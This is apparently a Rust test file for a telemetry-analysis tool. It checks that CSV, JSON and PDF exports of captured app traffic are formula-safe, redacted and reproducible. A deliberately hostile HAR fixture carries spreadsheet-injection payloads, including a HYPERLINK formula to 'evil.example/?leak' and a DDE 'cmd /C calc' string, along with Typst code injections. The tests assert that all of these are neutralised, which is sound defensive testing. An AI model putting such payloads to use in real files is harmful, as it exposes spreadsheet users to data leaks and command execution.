//! Exports of real cases: the demo case, a real app's first run (tweasel
//! ReportHAR: Facebook, Branch, Bugsnag) and a hostile HAR whose URL and
//! fields carry spreadsheet formulas, Typst markup and a Chinese canary.
//! CSV cells are formula-safe and carry data types, country and network;
//! output is byte-identical for the same case and options; the PDF's first
//! page states each finding in a sentence (checked with `pdftotext`, which
//! `.ci/run` installs), its tables never split a row, and redaction hides
//! the researcher's address.

use crate::case_cli::telltale;
use crate::common::fixture;
use std::path::Path;
use telltale::export::{ExportOptions, export_csv, export_json, export_pdf};
use telltale::model::{AnnotationEdit, EventId, ExchangeId, Severity, Target};
use telltale::store::{Case, EventFilter, EventRow, ImportOptions, NoObserver, SummaryFilter};

/// The Chinese canary typed on the device.
const CANARY: &str = "紫色长颈鹿";
const RESEARCHER: &str = "ana.researcher@example.org";
const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak\",\"click\")";

fn form_query(pairs: &[(&str, &str)]) -> String {
    let encode = |s: &str| -> String {
        s.bytes()
            .map(|b| match b {
                b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => char::from(b).to_string(),
                _ => format!("%{b:02X}"),
            })
            .collect()
    };
    pairs
        .iter()
        .map(|(k, v)| format!("{}={}", encode(k), encode(v)))
        .collect::<Vec<_>>()
        .join("&")
}

fn har_entry(time: &str, url: &str) -> serde_json::Value {
    serde_json::json!({
        "startedDateTime": time,
        "time": 10.0,
        "request": {"method": "GET", "url": url, "httpVersion": "HTTP/1.1",
            "headers": [{"name": "User-Agent", "value": "Mozilla/5.0 (Linux; Android 10) ExampleBrowser/12.1.3"}],
            "queryString": [], "cookies": [], "headersSize": -1, "bodySize": 0},
        "response": {"status": 200, "statusText": "OK", "httpVersion": "HTTP/1.1", "headers": [], "cookies": [],
            "content": {"size": 0, "mimeType": "text/plain", "text": ""}, "redirectURL": "", "headersSize": -1, "bodySize": 0},
        "cache": {}, "timings": {"send": 0, "wait": 10, "receive": 0},
        "serverIPAddress": "142.250.185.78"
    })
}

/// Two Google Analytics hits whose fields are hostile to spreadsheets and
/// to Typst, with the canary and the researcher's address inside.
fn hostile_har() -> Vec<u8> {
    let ga = "https://www.google-analytics.com/collect?";
    let title = format!("{CANARY} #panic() ]");
    let page = format!("https://search.example.cn/s?wd={CANARY}&user={RESEARCHER}");
    let first = form_query(&[
        ("v", "1"),
        ("tid", "UA-1234-1"),
        ("cid", "555"),
        ("t", "pageview"),
        ("dl", HYPERLINK),
        ("dt", &title),
    ]);
    let second = form_query(&[
        ("v", "1"),
        ("tid", "UA-1234-1"),
        ("cid", "555"),
        ("t", "event"),
        ("ec", "+cmd|' /C calc'!A0"),
        ("ea", "@SUM(1+1)"),
        ("el", "-2+3"),
        ("dl", &page),
    ]);
    let har = serde_json::json!({"log": {"version": "1.2", "creator": {"name": "telltale tests", "version": "1"}, "pages": [],
        "entries": [har_entry("2021-03-01T09:00:00.000Z", &format!("{ga}{first}")),
                    har_entry("2021-03-01T09:00:05.000Z", &format!("{ga}{second}"))]}});
    serde_json::to_vec_pretty(&har).expect("HAR serialises")
}

/// The hostile HAR imported as an incognito session, both events
/// annotated (notes that look like formulas and Typst code) and the canary saved.
fn hostile_case() -> (Case, String) {
    let mut case = Case::open_in_memory().expect("case");
    let options = ImportOptions {
        session: Some("hostile".into()),
        app: Some("com.example.browser".into()),
        mode: Some(telltale::model::Mode::Incognito),
        ..ImportOptions::default()
    };
    let outcome = case
        .import_bytes("hostile.har", None, &hostile_har(), &options, &mut NoObserver)
        .expect("hostile HAR imports");
    assert_eq!(outcome.events, 2);
    let annotate = |case: &mut Case, id: i64, tags: &[&str], severity, note: &str| {
        let edit = AnnotationEdit {
            tags: Some(tags.iter().map(|t| (*t).to_string()).collect()),
            severity: Some(severity),
            note: Some(note.to_string()),
        };
        case.annotate_as(Target::Event(EventId(id)), &edit, "ana")
            .expect("annotate");
    };
    let first_note = format!("Chinese canary {CANARY} sent in incognito; payload #panic() ] #eval(\"1\")");
    annotate(&mut case, 1, &["=tag", "中文"], Severity::Finding, &first_note);
    annotate(
        &mut case,
        2,
        &[],
        Severity::Notable,
        &format!("@SUM(A1) seen by {RESEARCHER}"),
    );
    case.save_canaries(&[CANARY.to_string()]).expect("save canary");
    (case, outcome.sha256)
}

fn demo_case() -> Case {
    let mut case = Case::open_in_memory().expect("case");
    case.import_demo().expect("demo");
    case
}

fn read_csv(path: &Path) -> Vec<csv::StringRecord> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .expect("open CSV");
    reader.records().collect::<Result<_, _>>().expect("valid CSV")
}

fn column(header: &csv::StringRecord, name: &str) -> usize {
    header
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name}"))
}

#[test]
fn csv_has_every_column_and_the_annotation() {
    let mut case = demo_case();
    let edit = AnnotationEdit {
        tags: Some(vec!["canary".into(), "search".into()]),
        severity: Some(Severity::Finding),
        note: Some("the canary search leaves the phone".into()),
    };
    case.annotate(Target::Event(EventId(16)), &edit).expect("annotate");
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("findings.csv");
    let options = ExportOptions {
        findings_only: true,
        ..ExportOptions::default()
    };
    let summary = export_csv(&case, &options, &out).expect("export");
    assert_eq!((summary.rows, summary.findings), (1, 1));
    let records = read_csv(&out);
    let header = &records[0];
    assert_eq!(
        header.iter().collect::<Vec<_>>(),
        [
            "time",
            "session",
            "mode",
            "app",
            "device",
            "tracker",
            "company",
            "host",
            "server_ip",
            "country",
            "org",
            "event",
            "key_field",
            "data_types",
            "decode_path",
            "severity",
            "tags",
            "note",
            "exchange_id",
            "event_id",
            "source_file",
            "source_sha256",
            "company_source",
            "party"
        ]
    );
    let row = &records[1];
    let normal_sha = case.sessions().expect("sessions")[0].sources[0].sha256.clone();
    let cell = |name| row.get(column(header, name)).unwrap_or_default().to_string();
    assert_eq!(cell("session"), "normal");
    assert_eq!(cell("mode"), "normal");
    assert_eq!(cell("event_id"), "16");
    assert_eq!(cell("event"), "search");
    assert_eq!(cell("tracker"), "sensorsdata");
    assert_eq!(cell("key_field"), "https://duckduckgo.com/?q=purple+giraffe+7391");
    assert_eq!(cell("decode_path"), "form:data_list › base64 › gzip › json[0]");
    assert_eq!(cell("severity"), "finding");
    assert_eq!(cell("tags"), "canary; search");
    assert_eq!(cell("note"), "the canary search leaves the phone");
    assert_eq!(cell("source_file"), "normal.har");
    assert_eq!(cell("source_sha256"), normal_sha);
    assert_eq!(cell("device"), "Redmi Note 8");
    // The demo's analytics host is in no list: the SDK in the payload names the company.
    assert_eq!(cell("company"), "Sensors Data (Sensors Analytics)");
    assert_eq!(cell("company_source"), "sdk");
    assert_eq!(cell("party"), "third");
    // The demo's Sensors Analytics host is the vendor's own domain: the
    // company still comes from the SDK that sent the event.
    assert_eq!(cell("company"), "Sensors Data (Sensors Analytics)");
    assert_eq!(cell("host"), "stat.example-browser-analytics.ru");
    assert_eq!(cell("server_ip"), "95.163.36.1");
    assert_eq!((cell("country"), cell("org")), ("RU".to_string(), "LLC VK".to_string()));
    let data_types = cell("data_types");
    for pair in [
        "searchTerm=purple giraffe 7391",
        "visitedUrl=https://duckduckgo.com/?q=purple+giraffe+7391",
        "userId=03317bb4875fb038",
    ] {
        assert!(data_types.contains(pair), "{pair} missing from {data_types}");
    }
}

#[test]
fn csv_neutralises_formulas_from_captured_content() {
    let (case, _) = hostile_case();
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("hostile.csv");
    export_csv(&case, &ExportOptions::default(), &out).expect("export");
    let records = read_csv(&out);
    let header = &records[0];
    let first = &records[1];
    assert_eq!(
        first.get(column(header, "key_field")),
        Some(format!("'{HYPERLINK}").as_str())
    );
    assert_eq!(first.get(column(header, "tags")), Some("'=tag; 中文"));
    let second = &records[2];
    assert_eq!(
        second.get(column(header, "note")),
        Some(format!("'@SUM(A1) seen by {RESEARCHER}").as_str())
    );
    for record in &records {
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "cell can run as a formula: {cell}"
            );
        }
    }
}

#[test]
fn csv_is_byte_identical_and_excel_flavour_has_bom_and_crlf() {
    let (case, _) = hostile_case();
    let dir = tempfile::tempdir().expect("tempdir");
    let (a, b, excel) = (
        dir.path().join("a.csv"),
        dir.path().join("b.csv"),
        dir.path().join("x.csv"),
    );
    let options = ExportOptions::default();
    export_csv(&case, &options, &a).expect("export a");
    export_csv(&case, &options, &b).expect("export b");
    let bytes = std::fs::read(&a).expect("read a");
    assert_eq!(bytes, std::fs::read(&b).expect("read b"));
    assert!(!bytes.starts_with(b"\xEF\xBB\xBF"));
    assert!(!bytes.contains(&b'\r'));
    export_csv(&case, &ExportOptions { excel: true, ..options }, &excel).expect("export excel");
    let text = std::fs::read(&excel).expect("read excel");
    assert!(text.starts_with(b"\xEF\xBB\xBF"));
    assert_eq!(
        text.windows(2).filter(|w| w == b"\r\n").count(),
        3,
        "header and two rows end in CRLF"
    );
}

#[test]
fn csv_filters_by_session_mode_and_tracker() {
    let case = demo_case();
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("ga.csv");
    let options = ExportOptions {
        filter: EventFilter {
            session: Some("incognito".into()),
            tracker: Some("ga".into()),
            ..EventFilter::default()
        },
        ..ExportOptions::default()
    };
    let summary = export_csv(&case, &options, &out).expect("export");
    let expected = case.events(&options.filter).expect("events").len();
    assert_eq!(summary.rows, expected);
    assert_eq!(expected, 58, "the demo's incognito session sends 58 GA hits");
    let records = read_csv(&out);
    assert!(
        records[1..]
            .iter()
            .all(|r| r.get(1) == Some("incognito") && r.get(5) == Some("ga"))
    );
}

#[test]
fn redaction_hides_the_researcher_but_keeps_hashes() {
    let (case, sha256) = hostile_case();
    let dir = tempfile::tempdir().expect("tempdir");
    let (csv_out, json_out) = (dir.path().join("r.csv"), dir.path().join("r.json"));
    let options = ExportOptions {
        redact: vec![RESEARCHER.into()],
        ..ExportOptions::default()
    };
    export_csv(&case, &options, &csv_out).expect("csv");
    export_json(&case, &options, &json_out).expect("json");
    for out in [&csv_out, &json_out] {
        let text = std::fs::read_to_string(out).expect("read");
        assert!(
            !text.contains(RESEARCHER),
            "{} still names the researcher",
            out.display()
        );
        assert!(
            !text.contains("ana.researcher%40example.org"),
            "URL-encoded form survived"
        );
        assert!(text.contains("[redacted]"));
        assert!(text.contains(&sha256), "hash of the original evidence file is kept");
    }
}

#[test]
fn json_findings_carry_events_layers_exchange_and_history() {
    let mut case = demo_case();
    let edit = AnnotationEdit {
        severity: Some(Severity::Finding),
        note: Some("whole batch".into()),
        ..AnnotationEdit::default()
    };
    case.annotate(Target::Event(EventId(16)), &edit).expect("event");
    let events = case.events(&EventFilter::default()).expect("events");
    let batch = events[0].exchange_id;
    let in_batch = events.iter().filter(|e| e.exchange_id == batch).count();
    assert_eq!(in_batch, 4, "the demo's first Sensors Analytics batch holds 4 events");
    case.annotate(Target::Exchange(ExchangeId(batch.0)), &edit)
        .expect("exchange");
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("findings.json");
    let options = ExportOptions {
        findings_only: true,
        date: Some("2020-05-01".into()),
        ..ExportOptions::default()
    };
    let summary = export_json(&case, &options, &out).expect("export");
    assert_eq!(summary.findings, 2);
    let json: serde_json::Value = serde_json::from_slice(&std::fs::read(&out).expect("read")).expect("JSON");
    assert_eq!(json["format"], "telltale-findings/1");
    assert_eq!(json["date"], "2020-05-01");
    assert!(json.get("events").is_none(), "findings only");
    let findings = json["findings"].as_array().expect("findings");
    let batch_finding = &findings[0];
    assert_eq!(batch_finding["annotation"]["target_kind"], "exchange");
    assert_eq!(batch_finding["events"].as_array().map(Vec::len), Some(in_batch));
    let event_finding = &findings[1];
    assert_eq!(event_finding["annotation"]["target_id"], 16);
    let event = &event_finding["events"][0];
    assert_eq!(event["fields"]["properties.keyword"], "purple giraffe 7391");
    let search: Vec<&serde_json::Value> = event["data_types"]
        .as_array()
        .expect("data_types")
        .iter()
        .filter(|d| d["type"] == "searchTerm")
        .collect();
    assert_eq!(search.len(), 1);
    assert_eq!(search[0]["value"], "purple giraffe 7391");
    assert_eq!(search[0]["field"], "body.data_list[0].properties.keyword");
    assert_eq!(event["host"], "stat.example-browser-analytics.ru");
    assert_eq!((&event["country"], &event["org"]), (&"RU".into(), &"LLC VK".into()));
    assert_eq!(event_finding["exchange"]["country_name"], "Russia");
    assert_eq!(event_finding["exchange"]["company"], "Sensors Data (Sensors Analytics)");
    assert_eq!(event["decode_path"], "form:data_list › base64 › gzip › json[0]");
    let steps: Vec<&str> = event_finding["layers"]
        .as_array()
        .expect("layers")
        .iter()
        .filter_map(|l| l["step"].as_str())
        .collect();
    assert_eq!(steps, ["request-body", "form:data_list", "base64", "gzip", "json[0]"]);
    assert!(
        event_finding["exchange"]["request_line"]
            .as_str()
            .is_some_and(|l| l.starts_with("POST https://"))
    );
    let sha = case.sessions().expect("sessions")[0].sources[0].sha256.clone();
    assert_eq!(event_finding["exchange"]["source_sha256"], sha.as_str());
    assert_eq!(event_finding["annotation"]["history"][0]["action"], "create");
}

/// Text of pages `first..=last` of a PDF through `pdftotext` (poppler-utils,
/// installed by `.ci/run`), whitespace collapsed to single spaces so lines
/// broken by the layout read as one sentence. Fails when the tool is missing.
fn pdf_pages(pdf: &Path, first: usize, last: usize) -> String {
    let out = std::process::Command::new("pdftotext")
        .args(["-f", &first.to_string(), "-l", &last.to_string()])
        .arg(pdf)
        .arg("-")
        .output()
        .expect("pdftotext must be installed (apt-get install -y poppler-utils; .ci/run does)");
    assert!(out.status.success(), "pdftotext failed on {}", pdf.display());
    String::from_utf8_lossy(&out.stdout)
        .replace('\u{200b}', "")
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
}

/// Text of the whole PDF.
fn pdf_text(pdf: &Path) -> String {
    pdf_pages(pdf, 1, usize::MAX)
}

/// Pages of a PDF (`pdfinfo`, poppler-utils).
fn pdf_page_count(pdf: &Path) -> usize {
    let out = std::process::Command::new("pdfinfo")
        .arg(pdf)
        .output()
        .expect("pdfinfo must be installed (poppler-utils)");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .find_map(|l| l.strip_prefix("Pages:"))
        .and_then(|n| n.trim().parse().ok())
        .expect("pdfinfo says how many pages")
}

/// The sentence of `text` that starts with `start`, up to its evidence
/// pointer (`→ Finding 1, p. 4`) included.
fn sentence_from<'a>(text: &'a str, start: &str) -> &'a str {
    let at = text
        .find(start)
        .unwrap_or_else(|| panic!("no sentence starting “{start}” on page 1: {text}"));
    let rest = &text[at..];
    let end = rest.find('→').map_or(rest.len(), |arrow| {
        let Some(page) = rest[arrow..].find(", p. ") else {
            return rest.len();
        };
        let digits_at = arrow + page + ", p. ".len();
        digits_at + rest[digits_at..].chars().take_while(char::is_ascii_digit).count()
    });
    &rest[..end]
}

#[test]
fn pdf_report_shows_notes_hashes_and_the_chinese_canary_without_running_payloads() {
    let (case, sha256) = hostile_case();
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("report.pdf");
    let options = ExportOptions {
        title: Some("Example Browser in incognito] #panic()".into()),
        redact: vec![RESEARCHER.into()],
        date: Some("2021-03-02".into()),
        reproducible: true,
        ..ExportOptions::default()
    };
    let summary = export_pdf(&case, &options, &out).expect("the report lays out despite hostile content");
    assert_eq!(summary.findings, 2);
    let bytes = std::fs::read(&out).expect("read");
    assert!(bytes.starts_with(b"%PDF-"));
    let text = pdf_text(&out);
    assert!(
        text.contains("Example Browser in incognito] #panic()"),
        "title shown as text"
    );
    assert!(
        text.contains("payload #panic() ] #eval(\"1\")"),
        "note shown as text, not run"
    );
    assert!(text.contains("@SUM(A1) seen by [redacted]"));
    assert!(text.contains(&sha256), "full SHA-256 of the evidence file");
    assert!(text.contains("Redaction applied"));
    assert!(!text.contains(RESEARCHER));
    assert!(text.contains("Canary hits"));
    assert!(text.contains("2021-03-02"));
    assert!(text.contains("Page 1 of"));
    assert!(
        !summary.warnings.iter().any(|w| w.contains("no font")),
        "no CJK font: apt-get install -y fonts-wqy-microhei (.ci/run does): {:?}",
        summary.warnings
    );
    assert!(text.contains(CANARY), "Chinese canary rendered as text");
}

/// Sleeps until the clock's second is past `after`.
fn wait_for_next_second(after: i64) {
    while chrono::Utc::now().timestamp() <= after {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

#[test]
fn pdf_is_byte_identical_when_reproducible() {
    let (case, _) = hostile_case();
    let dir = tempfile::tempdir().expect("tempdir");
    let path = |name: &str| dir.path().join(name);
    let reproducible = ExportOptions {
        reproducible: true,
        findings_only: true,
        ..ExportOptions::default()
    };
    let dated_by_clock = ExportOptions {
        reproducible: false,
        ..reproducible.clone()
    };
    export_pdf(&case, &reproducible, &path("a.pdf")).expect("a");
    export_pdf(&case, &dated_by_clock, &path("c.pdf")).expect("c");
    // Both exports above have finished: the second after this one is later
    // than any timestamp they read from the clock.
    wait_for_next_second(chrono::Utc::now().timestamp());
    export_pdf(&case, &reproducible, &path("b.pdf")).expect("b");
    export_pdf(&case, &dated_by_clock, &path("d.pdf")).expect("d");
    let read = |name: &str| std::fs::read(path(name)).expect("read pdf");
    assert_eq!(
        read("a.pdf"),
        read("b.pdf"),
        "--reproducible must not depend on the clock"
    );
    // Negative control: without --reproducible the clock reaches the bytes,
    // so the comparison above would have seen a clock dependence.
    assert_ne!(
        read("c.pdf"),
        read("d.pdf"),
        "the clock should reach a non-reproducible PDF"
    );
}

#[test]
fn cli_export_writes_all_three_and_fails_cleanly() {
    let dir = tempfile::tempdir().expect("tempdir");
    let case = dir.path().join("case.telltale");
    let case = case.to_str().expect("utf-8");
    assert!(telltale(&["demo", case]).status.success());
    assert!(
        telltale(&[
            "annotate",
            case,
            "--event",
            "16",
            "--severity",
            "finding",
            "--note",
            "canary"
        ])
        .status
        .success()
    );
    let csv_out = dir.path().join("f.csv");
    let pdf_out = dir.path().join("f.pdf");
    let json_out = dir.path().join("f.json");
    let out = telltale(&[
        "export",
        case,
        "--csv",
        csv_out.to_str().expect("utf-8"),
        "--pdf",
        pdf_out.to_str().expect("utf-8"),
        "--json",
        json_out.to_str().expect("utf-8"),
        "--findings-only",
        "--reproducible",
    ]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(read_csv(&csv_out).len(), 2, "header and the one finding");
    assert!(std::fs::read(&pdf_out).expect("pdf").starts_with(b"%PDF-"));

    let missing_dir = dir.path().join("no such dir").join("f.csv");
    let out = telltale(&["export", case, "--csv", missing_dir.to_str().expect("utf-8")]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.contains("f.csv"), "{stderr}");
    let bad_date = telltale(&[
        "export",
        case,
        "--pdf",
        pdf_out.to_str().expect("utf-8"),
        "--date",
        "May 1st",
    ]);
    assert_eq!(bad_date.status.code(), Some(1));
    assert!(std::fs::read(&pdf_out).expect("old pdf kept").starts_with(b"%PDF-"));
    let leftovers: Vec<_> = std::fs::read_dir(dir.path())
        .expect("list")
        .filter_map(Result::ok)
        .filter(|e| e.file_name().to_string_lossy().ends_with(".tmp"))
        .collect();
    assert!(leftovers.is_empty(), "temporary files left: {leftovers:?}");
}

/// The demo's incognito event that carried the Chinese canary search to the
/// Sensors Analytics collector in Singapore.
fn incognito_canary_event(case: &Case) -> EventRow {
    let filter = EventFilter {
        session: Some("incognito".into()),
        tracker: Some("sensorsdata".into()),
        ..EventFilter::default()
    };
    case.events(&filter)
        .expect("events")
        .into_iter()
        .find(|e| {
            e.host == "sa.example-browser-analytics.com"
                && e.fields.get("properties.keyword").and_then(|v| v.as_str()) == Some("隐私测试 canary")
        })
        .expect("the demo sends the canary search to Singapore in incognito mode")
}

#[test]
fn pdf_page_one_states_the_incognito_leak_in_a_sentence_an_editor_can_check() {
    let mut case = demo_case();
    let canary = incognito_canary_event(&case);
    let edit = AnnotationEdit {
        tags: Some(vec!["canary".into()]),
        severity: Some(Severity::Finding),
        note: Some("canary search sent to Singapore in incognito".into()),
    };
    case.annotate_as(Target::Event(canary.id), &edit, "ana")
        .expect("annotate");
    case.save_canaries(&["隐私测试 canary".to_string()]).expect("canary");
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("report.pdf");
    let options = ExportOptions {
        findings_only: true,
        reproducible: true,
        ..ExportOptions::default()
    };
    let summary = export_pdf(&case, &options, &out).expect("export");
    assert_eq!(
        summary.pages,
        pdf_page_count(&out),
        "the export says how many pages it wrote"
    );

    // The counts in the sentence are the summary's.
    let groups = case.summary(&SummaryFilter::default()).expect("summary");
    let group = groups
        .iter()
        .find(|g| g.session == "incognito" && g.hosts.iter().any(|h| h == "sa.example-browser-analytics.com"))
        .expect("the incognito Sensors Analytics group");
    let count = |kind: &str| {
        let d = group.data_types.iter().find(|d| d.kind == kind).expect(kind);
        (d.values, d.distinct_values)
    };
    let (searches, different_searches) = count("searchTerm");
    let (urls, different_urls) = count("visitedUrl");
    assert!(searches > different_searches && different_searches > 1);

    let page_one = pdf_pages(&out, 1, 1);
    assert!(page_one.starts_with("Telemetry findings"), "{page_one}");
    assert!(page_one.contains("Key findings"));
    let sentence = sentence_from(&page_one, "In incognito mode, com.example.browser sent");
    for part in [
        format!("{searches} search terms ({different_searches} different)"),
        format!("{urls} visited URLs ({different_urls} different)"),
        "through the Sensors Analytics SDK".to_string(),
        "to sa.example-browser-analytics.com".to_string(),
        "(161.117.96.161, Singapore, Alibaba".to_string(),
        "normal mode sent the same kinds".to_string(),
        "→ Finding 1, p.".to_string(),
    ] {
        assert!(sentence.contains(&part), "“{part}” missing from: {sentence}");
    }
    // The researcher's own finding is retold with its values and note.
    let marked = sentence_from(
        &page_one,
        "In incognito mode, com.example.browser sent the search term “隐私测试 canary”",
    );
    assert!(
        marked.contains("canary search sent to Singapore in incognito"),
        "{marked}"
    );
    assert!(marked.contains("UTC"), "{marked}");
    // Normal mode is there too, after incognito.
    let normal = page_one
        .find("In normal mode, com.example.browser sent")
        .expect("a normal-mode sentence");
    assert!(page_one.find("In incognito mode").is_some_and(|i| i < normal));

    let text = pdf_text(&out);
    let finding_page = text
        .find("Finding 1: ")
        .map(|at| &text[at..])
        .expect("the evidence block the sentence points at");
    // Layers numbered as shown, each naming the layer it was found in.
    let layers = [
        "1. request-body",
        "2. form:data_list",
        "3. base64",
        "4. gzip",
        "5. json[",
    ];
    let mut from = 0;
    for layer in layers {
        let at = finding_page[from..]
            .find(layer)
            .unwrap_or_else(|| panic!("{layer} missing or out of order"));
        from += at;
    }
    assert!(finding_page.contains("inside layer 4"));
    // The history names the user and says what changed.
    assert!(
        finding_page
            .contains("ana created severity finding; tags canary; note “canary search sent to Singapore in incognito”"),
        "{finding_page}"
    );
    assert!(!text.contains("finding [] \"\""));
    // A session named after its mode is not said twice.
    assert!(!text.contains("incognito incognito"), "the mode is repeated");
    assert!(!text.contains("normal normal"), "the mode is repeated");
    // Times to the second outside the evidence blocks.
    let before_evidence = &text[..text.find("Evidence Finding 1").expect("evidence section")];
    let micros = regex::Regex::new(r"\d{2}:\d{2}:\d{2}\.\d{6}").expect("regex");
    assert!(
        !micros.is_match(before_evidence),
        "microseconds outside the evidence blocks"
    );
    assert!(
        micros.is_match(finding_page),
        "the evidence block keeps the capture's microseconds"
    );
    // Canary hits: one row per event, with the clearest place and every encoding.
    let row = format!("event {} · request {}", canary.id, canary.exchange_id);
    assert_eq!(text.matches(&row).count(), 1, "one row for the event");
    let hits = case.search(&["隐私测试 canary".to_string()]).expect("search");
    let in_event = hits.iter().filter(|h| h.exchange_id == canary.exchange_id).count();
    assert!(
        in_event > 3,
        "the event's request holds the canary in {in_event} places"
    );
    // Its row lists every encoding the canary was found under, beside the event.
    assert!(text.contains(&format!("plain, form-encoded, base64 {row}")), "{text}");
    assert!(text.contains("form:data_list › base64 › gzip › json[1] · properties.keyword"));
}

#[test]
fn pdf_page_one_names_facebook_branch_and_bugsnag_in_a_real_first_run() {
    let dir = tempfile::tempdir().expect("tempdir");
    let case = dir.path().join("first-run.telltale");
    let case = case.to_str().expect("utf-8");
    let har = fixture("real/har_tweasel-reporthar_android-first-run.har");
    // No --app: the report names the app from what its requests carried.
    let import = telltale(&[
        "import",
        case,
        har.to_str().expect("utf-8"),
        "--session",
        "first-run",
        "--mode",
        "normal",
    ]);
    assert!(import.status.success(), "{}", String::from_utf8_lossy(&import.stderr));
    let exchanges = telltale(&["exchanges", case, "--json"]);
    let exchanges: serde_json::Value = serde_json::from_slice(&exchanges.stdout).expect("exchanges --json");
    let exchanges = exchanges.as_array().expect("array");
    let request = |url_end: &str| {
        exchanges
            .iter()
            .find(|x| x["url"].as_str().is_some_and(|u| u.ends_with(url_end)))
            .unwrap_or_else(|| panic!("no request to {url_end}"))
    };
    let branch = request("api2.branch.io/v1/open");
    let branch_id = branch["id"].to_string();
    let annotate = telltale(&[
        "annotate",
        case,
        "--exchange",
        &branch_id,
        "--severity",
        "finding",
        "--tag",
        "advertising-id",
        "--note",
        "Branch gets the advertising ID on first run",
    ]);
    assert!(
        annotate.status.success(),
        "{}",
        String::from_utf8_lossy(&annotate.stderr)
    );
    let pdf = dir.path().join("first-run.pdf");
    let export = telltale(&["export", case, "--pdf", pdf.to_str().expect("utf-8"), "--findings-only"]);
    let stderr = String::from_utf8_lossy(&export.stderr);
    assert!(export.status.success(), "{stderr}");
    assert!(
        stderr.contains("wrote 1 finding, ") && stderr.contains(" pages, "),
        "{stderr}"
    );

    let page_one = pdf_pages(&pdf, 1, 1);
    let where_to = |x: &serde_json::Value| {
        format!(
            "{} ({}, United States, {})",
            x["host"].as_str().expect("host"),
            x["server_ip"].as_str().expect("ip"),
            x["org"].as_str().expect("org")
        )
    };
    let branch_sentence = sentence_from(
        &page_one,
        "In normal mode, tld.sample.app sent the device advertising ID (GAID/IDFA) “1209d0b9-b959-42e6-b921-aa5d9d08c1af”, ",
    );
    assert!(
        branch_sentence.contains(&format!("to Branch at {}", where_to(branch))),
        "{branch_sentence}"
    );
    assert!(branch_sentence.ends_with(&format!(
        "→ Finding 1, p. {}",
        &branch_sentence[branch_sentence.len() - 1..]
    )));
    let facebook = request("/activities");
    assert!(
        page_one.contains(&format!("to Facebook (Meta) at {}", where_to(facebook))),
        "{page_one}"
    );
    assert!(
        page_one.contains("to Bugsnag (SmartBear) at notify.bugsnag.com ("),
        "{page_one}"
    );
    assert!(page_one.contains("Branch gets the advertising ID on first run"));
}

#[test]
fn pdf_findings_table_never_splits_a_row_across_pages() {
    let mut case = demo_case();
    let events = case
        .events(&EventFilter {
            tracker: Some("ga".into()),
            ..EventFilter::default()
        })
        .expect("events");
    // Few findings with long notes: rows tall enough that page ends fall
    // inside them unless the table moves them whole.
    const ROWS: usize = 10;
    let filler =
        "A long note the way a researcher writes it, with what was seen and why it matters for the story, ".repeat(9);
    for (i, event) in events.iter().take(ROWS).enumerate() {
        let edit = AnnotationEdit {
            severity: Some(Severity::Notable),
            note: Some(format!("row-{i}-start {filler} row-{i}-end")),
            ..AnnotationEdit::default()
        };
        case.annotate(Target::Event(event.id), &edit).expect("annotate");
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("long.pdf");
    let options = ExportOptions {
        findings_only: true,
        ..ExportOptions::default()
    };
    export_pdf(&case, &options, &out).expect("export");
    // The table's header repeats on every page it runs over.
    let table_pages: Vec<String> = (1..=pdf_page_count(&out))
        .map(|p| pdf_pages(&out, p, p))
        .filter(|text| text.contains("Event · what was sent"))
        .collect();
    assert!(table_pages.len() > 1, "the table is long enough to need several pages");
    for i in 0..ROWS {
        let (start, end) = (format!("row-{i}-start"), format!("row-{i}-end"));
        let page = table_pages
            .iter()
            .position(|p| p.contains(&start))
            .unwrap_or_else(|| panic!("{start} not in the findings table"));
        assert!(
            table_pages[page].contains(&end),
            "row {i} is split across table pages {} and {}",
            page + 1,
            page + 2
        );
    }
}
